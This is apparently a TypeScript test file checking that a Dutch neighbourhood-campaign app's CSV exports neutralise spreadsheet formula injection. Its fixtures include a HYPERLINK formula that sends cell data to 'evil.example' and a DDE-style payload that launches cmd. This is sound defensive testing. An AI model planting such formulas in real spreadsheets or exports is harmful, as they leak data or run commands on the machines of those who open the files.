/**
 * CSV exports open in Excel or LibreOffice: a cell that starts with =, +, -, @, a tab or
 * a carriage return would run there as a formula. Text cells that start so are written
 * with a leading single quote (OWASP); numbers the exporter writes itself stay numbers,
 * negative ones too (ledger corrections; NUMBER answers recorded before observations,
 * when they could be negative). Checked by parsing the real exports back, with both
 * separators, for people and raw.
 */
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { v7 as uuidv7 } from 'uuid';
import { csvField, toCsv } from '../../server/src/modules/export/csv.js';
import { updateCampaignSettings } from '../../server/src/modules/campaign/campaign.service.js';
import { recordFinding } from '../../server/src/modules/finding/finding.service.js';
import { promoteObservation, recordObservation } from '../../server/src/modules/observation/observation.service.js';
import { addStreet } from '../../server/src/modules/neighbourhood/neighbourhood.service.js';
import { correctTallyEvent, recordTallyEvent } from '../../server/src/modules/tally/tally.service.js';
import { accessFixture, type AccessFixture } from '../support/access-fixtures.js';
import { databaseFile } from '../support/test-app.js';

const hyperlink = '=HYPERLINK("http://evil.example/?d="&A1,"klik")';
const atSign = '@SUM(1+1)*cmd|" /C calc"!A0';
const plus = '+31 6 1234 5678';
const tab = '\t=1+1';
const carriageReturn = '\r=1+1';
const streetName = '=1+2 Kerkstraat';
const houseNumber = '=2+5';
const minusHouse = '-7+1';
const campaignName = '-1+1 Tegelwippen';
const textAnswer = '=HYPERLINK("http://evil.example/","antwoord")';
const choice = '-Soms';
const spotName = '+Bankje bij de kerk';

describe('CSV exports and formula injection', () => {
  const file = databaseFile();
  let fx: AccessFixture;
  let oddSchouw: string;
  const csv = async (path: string, separator: ',' | ';', format: 'people' | 'raw' = 'raw') => {
    const query = [separator === ';' ? 'separator=semicolon' : '', format === 'raw' ? 'format=raw' : ''].filter(Boolean).join('&');
    const response = await fetch(`${fx.t.url}/exports/campaigns/${path}?${query}`, { headers: fx.headers.coordinator });
    expect(response.status).toBe(200);
    return parse(await response.text(), { bom: true, delimiter: separator, columns: true, relax_quotes: false }) as Record<string, string>[];
  };

  beforeAll(async () => {
    fx = await accessFixture(file.env);
    const db = fx.t.app.connection.db;
    const admin = fx.asViewer('admin');
    await updateCampaignSettings(db, admin, { campaignId: fx.campaignA.id, name: campaignName });
    const street = await addStreet(db, admin, { neighbourhoodId: fx.neighbourhoodA, name: streetName });
    const items = fx.checklist.sections.flatMap((s) => s.items);
    const number = items.find((i) => i.type === 'NUMBER')!;
    const text = items.find((i) => i.type === 'TEXT')!;
    const yesNo = items.find((i) => i.type === 'YES_NO' && i.spotTypes.length === 0)!;
    const { createSpot } = await import('../../server/src/modules/spot/spot.service.js');
    const bench = await createSpot(db, admin, fx.neighbourhoodA, { streetId: street.id, type: 'ONTMOETINGSPLEK', name: spotName });
    const participant = { kind: 'participant' as const, participantId: fx.ids.participant, campaignId: fx.campaignA.id };
    // A checklist whose choice starts with a minus, pinned to a schouw of its own.
    const { publishChecklistVersion } = await import('../../server/src/modules/checklist/checklist.service.js');
    const { createCampaign, changeCampaignStatus } = await import('../../server/src/modules/campaign/campaign.service.js');
    const odd = await publishChecklistVersion(db, admin, { name: 'Vreemde keuzes', sections: [{ theme: 'SCHOON', title: 'Schoon', items: [{ prompt: '@Hoe vaak?', type: 'CHOICE', choices: [choice, 'Vaak'] }] }] });
    const draft = await createCampaign(db, admin, { neighbourhoodId: fx.neighbourhoodA, kind: 'SCHOUW', name: 'Schouw met vreemde keuzes', checklistVersionId: odd.id, requestId: 't' });
    oddSchouw = (await changeCampaignStatus(db, admin, { campaignId: draft.id, status: 'OPEN', requestId: 't' })).id;
    // Before observations, a NUMBER answer could be negative (-3); the migration kept such
    // answers as they were, and a finding made from one copies it. Both stay numbers.
    const legacyNumber = uuidv7();
    await db
      .insertInto('observation')
      .values({ id: legacyNumber, campaign_id: fx.schouwA.id, spot_id: fx.spotA.id, street_id: fx.spotA.streetId, checklist_item_id: number.id, theme: 'SCHOON', rating: null, answer: '-3', note: hyperlink, lat: null, lon: null, accuracy_m: null, participant_id: null, staff_account_id: fx.ids.admin, device_time: '2026-05-01T10:00:00.000Z', server_time: '2026-05-01T10:00:00.000Z', superseded_by: null })
      .execute();
    await promoteObservation(db, admin, { observationId: legacyNumber, findingId: uuidv7(), requestId: 't' });
    await db.transaction().execute(async (trx) => {
      const deviceTime = new Date().toISOString();
      await recordFinding(trx, admin, { id: uuidv7(), campaignId: fx.schouwA.id, category: 'SCHOON', streetId: street.id, text: hyperlink, suggestion: atSign, deviceTime });
      await recordFinding(trx, admin, { id: uuidv7(), campaignId: fx.schouwA.id, category: 'HEEL', streetId: street.id, text: tab, suggestion: carriageReturn, deviceTime });
      await recordFinding(trx, admin, { id: uuidv7(), campaignId: fx.schouwA.id, category: 'HEEL', streetId: street.id, text: plus, deviceTime });
      await recordObservation(trx, admin, { id: uuidv7(), campaignId: fx.schouwA.id, spotId: fx.spotA.id, checklistItemId: number.id, answer: '3', deviceTime });
      await recordObservation(trx, admin, { id: uuidv7(), campaignId: fx.schouwA.id, spotId: fx.spotA.id, checklistItemId: text.id, answer: textAnswer, deviceTime });
      await recordObservation(trx, admin, { id: uuidv7(), campaignId: fx.schouwA.id, spotId: bench.id, checklistItemId: yesNo.id, answer: 'JA', deviceTime });
      await recordObservation(trx, admin, { id: uuidv7(), campaignId: oddSchouw, spotId: fx.spotA.id, checklistItemId: odd.sections[0]!.items[0]!.id, answer: choice, deviceTime });
      const event = await recordTallyEvent(trx, participant, { id: uuidv7(), campaignId: fx.campaignA.id, actionDayId: fx.dayA, streetId: street.id, houseNumber, unitCode: 'TEGEL_30X30', count: 10 });
      await recordTallyEvent(trx, participant, { id: uuidv7(), campaignId: fx.campaignA.id, actionDayId: fx.dayA, streetId: street.id, houseNumber: minusHouse, unitCode: 'TEGEL_30X30', count: 1 });
      await correctTallyEvent(trx, participant, { id: uuidv7(), correctsEventId: event.id, count: 3 });
    });
  });
  afterAll(async () => {
    await fx.t.close();
    file.remove();
  });

  it('writes a leading quote before text that starts with =, +, -, @, tab or CR, and leaves numbers alone', () => {
    for (const separator of [',', ';'] as const) {
      const out = toCsv(['a', 'b', 'c'], [[hyperlink, -3, 'gewoon'], [tab, 0, '-'], [carriageReturn, 1.5, '@']], separator);
      expect(parse(out, { bom: true, delimiter: separator })).toEqual([
        ['a', 'b', 'c'],
        [`'${hyperlink}`, '-3', 'gewoon'],
        [`'${tab}`, '0', "'-"],
        [`'${carriageReturn}`, '1.5', "'@"],
      ]);
    }
    expect(csvField('-3', ',')).toBe("'-3");
    expect(csvField(-3, ',')).toBe('-3');
    expect(csvField('a=b', ',')).toBe('a=b');
  });

  it('neutralises finding text, suggestion and street in findings.csv, and keeps a number answer a number', async () => {
    for (const separator of [',', ';'] as const) {
      const rows = await csv(`${fx.schouwA.id}/findings.csv`, separator);
      const link = rows.find((r) => r.beschrijving!.includes('HYPERLINK'))!;
      expect(link).toMatchObject({ beschrijving: `'${hyperlink}`, kans: `'${atSign}`, straat: `'${streetName}` });
      // Recording trims text, so the leading tab and carriage return are gone; the formula behind them is not.
      expect(rows.find((r) => r.beschrijving === "'=1+1")).toMatchObject({ kans: "'=1+1" });
      expect(rows.find((r) => r.beschrijving!.includes('31 6'))).toMatchObject({ beschrijving: `'${plus}` });
      expect(rows.find((r) => r.vraag === 'Hoeveel afvalbakken staan hier?')).toMatchObject({ antwoord: '-3' });
      for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+@\t\r]/);
    }
  });

  it('neutralises text answers, choices, questions, notes and street in answers.csv; a number answer stays a number, also a negative one from before', async () => {
    for (const separator of [',', ';'] as const) {
      const rows = await csv(`${fx.schouwA.id}/answers.csv`, separator);
      const numbers = rows.filter((r) => r.vraag === 'Hoeveel afvalbakken staan hier?');
      expect(numbers.map((r) => r.antwoord).sort()).toEqual(['-3', '3']);
      expect(numbers.find((r) => r.antwoord === '-3')).toMatchObject({ opmerking: `'${hyperlink}`, bevinding: expect.stringMatching(/^[0-9a-f-]{36}$/) });
      expect(rows.find((r) => r['soort vraag'] === 'TEXT')).toMatchObject({ antwoord: `'${textAnswer}` });
      expect(rows.find((r) => r.plek === `'${spotName}`)).toMatchObject({ straat: `'${streetName}`, antwoord: 'JA' });
      const odd = await csv(`${oddSchouw}/answers.csv`, separator);
      expect(odd).toEqual([expect.objectContaining({ vraag: "'@Hoe vaak?", antwoord: `'${choice}` })]);
      for (const row of [...rows, ...odd]) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+@\t\r]/);
    }
    for (const separator of [',', ';'] as const) {
      const rows = await csv(`${fx.schouwA.id}/answers.csv`, separator, 'people');
      expect(rows.filter((r) => r.Vraag === 'Hoeveel afvalbakken staan hier?').map((r) => r.Antwoord).sort()).toEqual(['-3', '3']);
      expect(rows.find((r) => r.Antwoord!.includes('HYPERLINK'))).toMatchObject({ Antwoord: `'${textAnswer}` });
      expect(rows.find((r) => r.Opmerking)).toMatchObject({ Opmerking: `'${hyperlink}` });
      expect(rows.find((r) => r.Plek === `'${spotName}`)).toMatchObject({ Straat: `'${streetName}`, Antwoord: 'Ja' });
      expect((await csv(`${oddSchouw}/answers.csv`, separator, 'people'))[0]).toMatchObject({ Vraag: "'@Hoe vaak?", Antwoord: `'${choice}` });
      for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+@\t\r]/);
    }
  });

  it('neutralises house number and street in tally-ledger.csv; correction counts stay negative numbers', async () => {
    for (const separator of [',', ';'] as const) {
      const rows = await csv(`${fx.campaignA.id}/tally-ledger.csv`, separator);
      expect(rows.filter((r) => r.straat === `'${streetName}`)).toHaveLength(3);
      expect(rows.find((r) => r.aantal === '10')).toMatchObject({ huisnummer: `'${houseNumber}`, oppervlakte_cm2: '9000' });
      expect(rows.find((r) => r.aantal === '1')).toMatchObject({ huisnummer: `'${minusHouse}` });
      expect(rows.find((r) => r.corrigeert)).toMatchObject({ aantal: '-3', oppervlakte_cm2: '-2700', huisnummer: `'${houseNumber}` });
    }
  });

  it('neutralises the campaign name in nk-summary.csv; areas and tiles stay numbers', async () => {
    for (const separator of [',', ';'] as const) {
      const rows = await csv(`${fx.campaignA.id}/nk-summary.csv`, separator);
      expect(rows.at(-1)).toMatchObject({ actiedag: 'totaal', omschrijving: `'${campaignName}`, vierkante_meters: '0.72', nk_tegels_30x30: '8' });
    }
  });
  it('neutralises the same cells in the exports for people (Dutch words; with ; decimal commas, negative numbers stay numbers)', async () => {
    for (const separator of [',', ';'] as const) {
      const findings = await csv(`${fx.schouwA.id}/findings.csv`, separator, 'people');
      expect(findings.find((r) => r.Beschrijving!.includes('HYPERLINK'))).toMatchObject({ Beschrijving: `'${hyperlink}`, 'Kans of idee': `'${atSign}`, Straat: `'${streetName}` });
      expect(findings.find((r) => r.Vraag === 'Hoeveel afvalbakken staan hier?')).toMatchObject({ Antwoord: '-3' });
      const ledger = await csv(`${fx.campaignA.id}/tally-ledger.csv`, separator, 'people');
      expect(ledger.find((r) => r['Correctie van'])).toMatchObject({ Aantal: '-3', 'Oppervlakte (m²)': separator === ';' ? '-0,27' : '-0.27', Huisnummer: `'${houseNumber}` });
      expect(ledger.find((r) => r.Aantal === '1')).toMatchObject({ Huisnummer: `'${minusHouse}` });
      const nk = await csv(`${fx.campaignA.id}/nk-summary.csv`, separator, 'people');
      expect(nk.at(-1)).toMatchObject({ Actiedag: 'Totaal', Omschrijving: `'${campaignName}`, 'Vierkante meters': separator === ';' ? '0,72' : '0.72', 'NK-tegels (30×30)': '8' });
      for (const rows of [findings, ledger, nk]) for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+@\t\r]/);
    }
  });
});
